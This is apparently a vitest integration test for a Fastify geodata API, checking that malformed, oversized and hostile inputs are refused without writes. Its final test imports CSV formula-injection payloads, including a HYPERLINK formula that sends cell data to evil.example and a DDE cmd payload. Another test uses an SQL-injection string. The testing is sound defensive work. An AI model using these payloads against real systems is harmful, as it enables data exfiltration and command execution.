import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance, InjectOptions, LightMyRequestResponse } from 'fastify';
import { ProblemType, type Role } from '@ilk/core';
import { parseCsv } from '../../../core/src/csv.ts';
import { BACKENDS, openTestDatabase, type TestDatabase } from '../../helpers/test-db.ts';
import { buildTestApp } from '../../helpers/app.ts';
import { as, login } from '../../helpers/auth.ts';
import { BAD_INPUT_CASES, type Ctx, type Who } from '../../fixtures/bad-input/index.ts';

// The bad-input corpus against the real app on a real database: each case must end in a 4xx
// problem+json that names the problem, quickly, without a large allocation, and without a
// write. Generous bounds: they catch a hang or a parse of a million vertices, not jitter.
const MAX_MS = 10_000;
const MAX_RSS_GROWTH = 500 * 1024 * 1024;

// What a refused request must leave as it was. audit_log is included: an entry there claims a
// change happened, so a refused request must not leave one either. layer_revisions too: a bump
// would make every client reload its layers. Sessions are left out: each request touches
// last_seen_at, and that is not a write of data.
const CHECKSUM = `
  SELECT concat_ws(' ',
    (SELECT count(*) || ':' || md5(coalesce(string_agg(o::text, '|' ORDER BY o.id), '')) FROM offers o),
    (SELECT count(*) || ':' || md5(coalesce(string_agg(n::text, '|' ORDER BY n.id), '')) FROM needs n),
    (SELECT count(*) || ':' || md5(coalesce(string_agg(p::text, '|' ORDER BY p.id), '')) FROM providers p),
    (SELECT count(*) || ':' || md5(coalesce(string_agg(id::text, ',' ORDER BY id), '')) FROM capacity_reports),
    (SELECT count(*) || ':' || md5(coalesce(string_agg(id || '@' || updated_at, ',' ORDER BY id), '')) FROM regions),
    (SELECT string_agg(layer || '=' || revision, ',' ORDER BY layer) FROM layer_revisions),
    (SELECT count(*) || ':' || coalesce(max(id), 0) FROM audit_log),
    (SELECT count(*) FROM api_tokens)) AS checksum`;

type Send = (o: InjectOptions) => Promise<LightMyRequestResponse>;
interface Problem { type: string; title: string; status: number; detail?: string; errors?: { field: string; message: string }[] }

/** Everything a case's pattern may match: the detail, each error's field, message, and both. */
const problemTexts = (p: Problem) => [p.detail ?? '', ...(p.errors ?? []).flatMap((e) => [e.field, e.message, `${e.field} ${e.message}`])];

for (const kind of BACKENDS) {
  describe(`bad input on ${kind}`, () => {
    let t: TestDatabase;
    let app: FastifyInstance;
    let ctx: Ctx;
    const senders = new Map<Who, Send>();
    const checksum = async () => (await t.db.query<{ checksum: string }>(CHECKSUM)).rows[0]!.checksum;

    beforeAll(async () => {
      t = await openTestDatabase(kind);
      app = await buildTestApp(t.db);
      senders.set('anonymous', (o) => app.inject(o));
      for (const role of ['admin', 'coordinator', 'analyst', 'partner'] as Role[]) senders.set(role, as(app, await login(app, role)));
      const { rows: [r] } = await t.db.query<{ lon: number; lat: number; gemeinde: string; verband: string; offer: number }>(`
        SELECT ST_X(g.label_point) AS lon, ST_Y(g.label_point) AS lat, g.ars AS gemeinde, v.ars AS verband,
               (SELECT min(id) FROM offers)::int AS offer
          FROM regions g JOIN regions v ON v.id = g.parent_id
         WHERE g.level = 'gemeinde' AND v.level = 'verband' AND g.population > 0 ORDER BY g.ars LIMIT 1`);
      const offer = await senders.get('coordinator')!({ url: `/api/offers/${r!.offer}` });
      ctx = { point: [r!.lon, r!.lat], gemeinde: r!.gemeinde, verband: r!.verband, offer: { id: r!.offer, etag: offer.headers.etag as string } };
    });
    afterAll(async () => {
      await app.close();
      await t.dispose();
    });

    it(`has at least 60 cases (${BAD_INPUT_CASES.length})`, () => {
      expect(BAD_INPUT_CASES.length).toBeGreaterThanOrEqual(60);
    });

    for (const c of BAD_INPUT_CASES) {
      it(`${c.name}: ${c.expect.status}`, async () => {
        const before = await checksum();
        const request = c.request(ctx);
        const rss = process.memoryUsage().rss;
        const started = performance.now();
        const res = await senders.get(c.who ?? 'coordinator')!(request);
        const ms = performance.now() - started;
        const grown = process.memoryUsage().rss - rss;

        expect(res.statusCode, res.body.slice(0, 500)).toBe(c.expect.status);
        expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
        const problem = res.json() as Problem;
        expect(problem.status).toBe(c.expect.status);
        expect(Object.values(ProblemType)).toContain(problem.type);
        expect(problem.title).not.toBe('');
        expect(problemTexts(problem).some((s) => c.expect.problem.test(s)), `${c.expect.problem} in ${JSON.stringify(problem).slice(0, 500)}`).toBe(true);
        expect(res.body).not.toMatch(/node_modules|\.ts:\d+|at async /);
        expect(ms).toBeLessThan(MAX_MS);
        expect(grown).toBeLessThan(MAX_RSS_GROWTH);
        expect(await checksum()).toBe(before);
      });
    }

    it('searches SQL fragments and Unicode tricks in the free text literally', async () => {
      const before = await checksum();
      const coord = senders.get('coordinator')!;
      for (const q of ["' OR '1'='1' --", '%', '_', '\\', '\u202Eesruk', 'Kurs\u200B']) {
        const res = await coord({ url: `/api/offers?q=${encodeURIComponent(q)}` });
        expect(res.statusCode, q).toBe(200);
        expect(res.json().features, q).toEqual([]);
      }
      expect(await checksum()).toBe(before);
    });

    it('serves an OGC limit of 10^9 as the maximum of 1000 (OGC API Features, /req/core/fc-limit-response-1)', async () => {
      const res = await senders.get('coordinator')!({ url: '/ogc/collections/offers/items?limit=1000000000' });
      expect(res.statusCode).toBe(200);
      const body = res.json() as { numberReturned: number; links: { rel: string; href: string }[] };
      expect(body.numberReturned).toBeLessThanOrEqual(1000);
      expect(body.links.find((l) => l.rel === 'self')!.href).toContain('limit=1000');
    });

    // Runs last: it writes.
    it('accepts formulas in an imported CSV as text and neutralises them in the CSV export', async () => {
      const coord = senders.get('coordinator')!;
      const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', '+49 431 1234', '@SUM(A1:A9)', '-2+3', '=cmd|\' /C calc\'!A0'];
      const rows = formulas.map((f, i) => `formula-${i},"${f.replaceAll('"', '""')}",sprache,${ctx.point[1]},${ctx.point[0]}`);
      const res = await coord({ method: 'POST', url: '/api/offers/import', headers: { 'content-type': 'text/csv' }, payload: `external_id,name,category,lat,lon\n${rows.join('\n')}\n` });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json().summary).toEqual({ insert: formulas.length, update: 0, unchanged: 0, error: 0 });

      // Stored and served as the text it is ...
      const stored = await t.db.query<{ name: string }>("SELECT name FROM offers WHERE external_id LIKE 'formula-%' ORDER BY external_id");
      expect(stored.rows.map((r) => r.name)).toEqual(formulas);
      // ... but no spreadsheet opening the export runs it: every such cell starts with a quote.
      const csv = await coord({ url: '/api/export/offers.csv' });
      const table = parseCsv(csv.body);
      const [id, name] = ['external_id', 'name'].map((h) => table.header.indexOf(h));
      const exported = table.records.filter((r) => r.cells[id!]!.startsWith('formula-')).map((r) => r.cells[name!]);
      expect(exported.sort()).toEqual(formulas.map((f) => `'${f}`).sort());
      // The GeoJSON export is data for programs, not for spreadsheets: there the text is unchanged.
      const geojson = (await coord({ url: '/api/export/offers.geojson' })).json() as { features: { properties: { external_id: string | null; name: string } }[] };
      expect(geojson.features.filter((f) => f.properties.external_id?.startsWith('formula-')).map((f) => f.properties.name).sort()).toEqual([...formulas].sort());
    });
  });
}
